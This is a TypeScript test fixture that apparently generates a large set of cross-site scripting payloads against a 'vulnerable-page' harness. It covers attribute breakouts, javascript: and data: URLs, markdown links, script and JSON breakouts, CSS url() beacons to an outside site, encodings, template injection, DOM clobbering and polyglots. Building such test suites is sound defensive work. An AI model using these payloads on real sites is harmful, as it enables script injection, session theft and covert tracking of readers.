import {
  asFrame,
  asJson,
  asLink,
  asMarkdown,
  asMarkup,
  asStringLiteral,
  asTemplate,
  type UnsafeTemplate,
  decoded,
  decodedTwice,
  inDoubleQuotedString,
  inDoubleQuotes,
  inJsonByHand,
  inLineComment,
  inSingleQuotedString,
  inSingleQuotes,
  inStyle,
  inStyleAttribute,
  inTemplateString,
  normalised,
  unescaped,
  unquoted,
} from './vulnerable-page'
import type { PayloadTemplate } from './markup-payloads'

type Text = PayloadTemplate['text']
const family = (name: string, template: UnsafeTemplate, texts: Text[]): PayloadTemplate[] =>
  texts.map((text) => ({ family: name, template, text }))

const handlers = ['onfocus', 'onmouseover', 'onclick', 'oNfOcUs']
const attributes = [
  ...handlers.flatMap((name) => [
    ...family('attribute', inDoubleQuotes, [(call) => `" ${name}=${call} autofocus x="`]),
    ...family('attribute', inSingleQuotes, [(call) => `' ${name}=${call} autofocus x='`]),
    ...family('attribute', unquoted, [(call) => `x ${name}=${call} autofocus`]),
  ]),
  ...family('attribute', inDoubleQuotes, [
    (call) => `"onfocus=${call}//autofocus x="`,
    (call) => `"\nonfocus\n=\n"${call}" autofocus x="`,
    (call) => `" style="animation-name:k" onanimationstart="${call}"><style>@keyframes k{}</style>`,
    (call) => `" type=image src=x onerror="${call}`,
  ]),
]

const schemes: Text[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `javascript\t:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `javascript://canary.invalid/%0a${call}`,
  (call) => `javascript:'<script>${call}</script>'`,
  (call) => `javascript:void(${encodeURIComponent(call)})`,
  (call) => `javascript:/*/*/${call}`,
]
const framed: Text[] = [
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>${call}</script>`)}`,
  (call) => `DATA:text/html;charset=utf-8,%3Cscript%3E${call}%3C/script%3E`,
  (call) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  (call) => `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${call}</script>`,
]
const old: Text[] = [(call) => `vbscript:${call}`, (call) => `feed:javascript:${call}`]
const urls = [...family('url', asLink, [...schemes, ...old]), ...family('url', asFrame, framed)]

/** Markdown decodes entities as HTML does. */
const marked: Text[] = [
  ...schemes.slice(0, 7),
  ...framed.slice(0, 2),
  (call) => `javascript&colon;${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `java&Tab;script&#58;${call}`,
]
const markdown = family('markdown', asMarkdown, [
  ...marked.map(
    (url): Text =>
      (call, site) =>
        `[x](${url(call, site)})`,
  ),
  (call) => `**[x](javascript:${call})**`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `![x](javascript:${call})`,
  (call) => `<javascript:${call}>`,
  (call) => `[x]: javascript:${call}`,
  (call) => `[x](https://canary.invalid/"onmouseover="${call})`,
  (call) => `[<img src=x onerror=${call}>](https://canary.invalid/)`,
  (call) => `[x](https://canary.invalid/ "onclick="${call})`,
  (call) => `[x](//canary.invalid/"onclick="${call})`,
  (call) => `record 1<img src=x onerror=${call}>`,
  (call) => `*<img src=x onerror=${call}>*`,
])

const scripts = [
  ...family('script', inDoubleQuotedString, [
    (call) => `";${call}//`,
    (call) => `"-${call}-"`,
    (call) => `"+${call}+"`,
    (call) => `";${call};"`,
    (call) => `</script><script>${call}</script>`,
  ]),
  ...family('script', inSingleQuotedString, [
    (call) => `';${call}//`,
    (call) => `'-${call}-'`,
    (call) => `';${call};'`,
    (call) => `</ScRiPt><svg onload=${call}>`,
  ]),
  ...family('script', inTemplateString, [(call) => `\${${call}}`, (call) => `\`;${call}//`]),
  ...family('script', inLineComment, [
    (call) => `\u2028${call}//`,
    (call) => `\u2029${call}//`,
    (call) => `\n${call}//`,
    (call) => `\r${call}//`,
  ]),
]

const json = [
  ...family('json', asJson, [
    (call) => `</script><script>${call}</script>`,
    (call) => `</script><img src=x onerror=${call}>`,
    (call) => `</SCRIPT ><script>${call}</script>`,
    (call) => `<!--</script><script>${call}</script>-->`,
    (call) => `{"__proto__":{"x":"</script><svg onload=${call}>"}}`,
    (call) => `["$","script",null,{"children":"${call}"}]</script><script>${call}</script>`,
    (call) => `1:["$","img",null,{"src":"x","onError":"${call}"}]\n</script><img src=x onerror=${call}>`,
    (call) => `$F1</script><script>${call}</script>`,
  ]),
  ...family('json', inJsonByHand, [
    (call) => `"}];${call};//`,
    (call) => `"}];self.__next_f?.push([1,""]);${call}//`,
    (call) => `"},{"text":"\\u003c"}];${call};//`,
    (call) => `","__proto__":${call},"x":"`,
  ]),
]

const styles = [
  ...family('style', inStyle, [
    (call) => `red } </style><script>${call}</script>`,
    (_call, site) => `red } p { background: url(${site}) }`,
    (_call, site) => `red } p { list-style: url(${site}); display: list-item } /*`,
  ]),
  ...family('style', inStyleAttribute, [
    (_call, site) => `red; background: url(${site})`,
    (_call, site) => `red; border-image: url(${site}) 1; border-style: solid`,
    (call) => `expression(${call})`,
  ]),
]

/** Payloads that run nothing, but report readers to another server. */
const calls = family('call', asMarkup, [
  (_call, site) => `<img src=${site}>`,
  (_call, site) => `<img srcset="${site} 1x">`,
  (_call, site) => `<script src=${site}></script>`,
  (_call, site) => `<link rel=stylesheet href=${site}>`,
  (_call, site) => `<link rel=preload as=image href=${site}>`,
  (_call, site) => `<style>@import url(${site});</style>`,
  (_call, site) => `<iframe src=${site}></iframe>`,
  (_call, site) => `<object data=${site}></object>`,
  (_call, site) => `<embed src=${site}>`,
  (_call, site) => `<video poster=${site} src=${site}></video>`,
  (_call, site) => `<audio src=${site} autoplay></audio>`,
  (_call, site) => `<input type=image src=${site}>`,
  (_call, site) => `<body background=${site}>`,
  (_call, site) => `<svg><image href=${site} width=9 height=9></svg>`,
  (_call, site) => `<meta http-equiv=refresh content="0;url=${site}">`,
  (_call, site) => `<base href=${site}/><img src=x>`,
  (_call, site) => `<p style="background:url(${site})">x</p>`,
])

const encodings = [
  ...family('encoding', decoded, [(call) => encodeURIComponent(`<img src=x onerror=${call}>`)]),
  ...family('encoding', decodedTwice, [
    (call) => encodeURIComponent(encodeURIComponent(`<svg onload=${call}>`)),
  ]),
  ...family('encoding', unescaped, [
    (call) => `&lt;img src=x onerror=${call}&gt;`,
    (call) => `&#60;svg onload=${call}&#62;`,
    (call) => `&#x3c;img src=x onerror=${call}&#x3e;`,
    (call) => `&ltimg src=x onerror=${call}&gt`,
  ]),
  ...family('encoding', asStringLiteral, [
    (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
    (call) => `\\x3cimg src=x onerror=${call}\\x3e`,
    (call) => `\\74img src=x onerror=${call}\\76`,
  ]),
  ...family('encoding', normalised, [(call) => `＜img src=x onerror=${call}＞`]),
  ...family('encoding', asMarkup, [(call) => `+ADw-img src=x onerror=${call}+AD4-`]),
]

const templates = family('template', asTemplate, [
  (call) => `{{${call}}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `@{${call}}`,
  (call) => `<%=${call}%>`,
])

/** Elements whose names shadow our own globals: they run nothing, but are in the page. */
const names = family('name', asMarkup, [
  () => '<form name=fetch><input name=action><input name=submit></form>',
  () => '<a id=__next_f href=x>x</a>',
  () => '<img name=querySelector><img name=body>',
  () => '<iframe name=top></iframe>',
  () => '<input name=__proto__ id=constructor>',
])

const polyglots = family('polyglot', asMarkup, [
  (call) =>
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${call}//>\\x3e`,
  (call) => `'"-->]]>*/</script></style></title></textarea></noscript><svg onload=${call}><!--`,
  (call) => `"'\`><img src=x onerror=${call}><a href="javascript:${call}">`,
  (call) =>
    `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=${call}//>`,
])

export const others = [
  ...[attributes, urls, markdown, scripts, json, styles].flat(),
  ...[calls, encodings, templates, names, polyglots].flat(),
]
